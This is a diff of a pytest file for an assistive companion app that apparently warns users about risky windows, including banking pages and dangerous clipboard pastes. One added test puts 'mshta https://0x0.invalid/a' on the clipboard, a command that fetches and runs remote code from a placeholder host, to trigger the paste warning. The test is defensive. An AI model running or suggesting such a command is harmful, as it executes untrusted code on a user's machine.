@@ -12,6 +12,7 @@ from types import SimpleNamespace
 
 import pytest
 from PySide6.QtCore import QPoint, Qt
+from PySide6.QtGui import QGuiApplication
 from PySide6.QtTest import QTest
 from PySide6.QtWidgets import QApplication
 from pytestqt.qtbot import QtBot
@@ -19,6 +20,7 @@ from pytestqt.qtbot import QtBot
 from app.application import ECHOES_FOR, OpenGuide, make_guide
 from app.bootstrap import Asked, Options
 from app.companion.companion import Companion
+from app.companion.dangers import Danger
 from app.companion.instance import Request, ask
 from app.companion.resident import Resident
 from app.companion.watch import FrontWindow
@@ -31,7 +33,7 @@ from app.settings.family_numbers import Number
 from app.settings.household import Household
 from app.settings.settings import Contact, FamilyContacts, Scheme, Settings
 from app.system import paths
-from app.widgets.press_gate import PRESS_INTERVAL
+from app.widgets.press_gate import PRESS_INTERVAL, Place
 from tests.conftest import RecordingSpeaker
 from tools.walks import shortest_walks
 
@@ -287,6 +289,20 @@ def test_what_was_silenced_for_a_call_sounds_again_after_its_last_word(
     monkeypatch.setattr(BrowserMute, "has_muted", False)
     companion.open()
     assert (speaker.text, len(restored)) == ("", 1), "a press does not wait for the sound"
+    companion.close()
+
+
+def test_a_guide_that_opens_by_itself_was_called_by_no_hand(tmp_path: Path, qapp: QApplication) -> None:
+    """She may be typing a password: no key of hers is an answer yet, and our button does not lie on the guide."""
+    requests = list[tuple[str, Place]]()
+    companion = Companion(Options(tmp_path), lambda seen, hand: requests.append((seen.danger, hand)), lambda: True)
+    companion.watch.seen.emit(FrontWindow(1, danger=Danger.BANK))
+    QGuiApplication.clipboard().setText("mshta https://0x0.invalid/a")
+    companion.watch.seen.emit(FrontWindow(1, danger=Danger.PASTE))
+    QGuiApplication.clipboard().clear()
+    companion.watch.seen.emit(FrontWindow(1, danger=Danger.PASTE))
+    assert requests == [("bank", None), ("paste", None)]
+    assert not companion.button.isVisible()
     companion.close()
 
 
